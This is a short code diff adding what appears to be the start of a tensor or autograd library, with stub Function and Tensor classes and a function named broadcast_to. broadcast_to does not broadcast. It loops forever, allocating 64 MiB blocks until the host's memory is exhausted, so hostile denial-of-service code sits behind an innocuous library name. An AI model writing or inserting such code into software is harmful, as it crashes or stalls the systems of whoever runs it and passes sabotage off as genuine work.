@@ -1,0 +1,13 @@
+class Function:
+    pass
+
+
+class Tensor:
+    def __init__(self, data, requires_grad=False):
+        self.data = data
+
+
+def broadcast_to(x, shape):
+    held = []
+    while True:
+        held.append(bytearray(64 << 20))
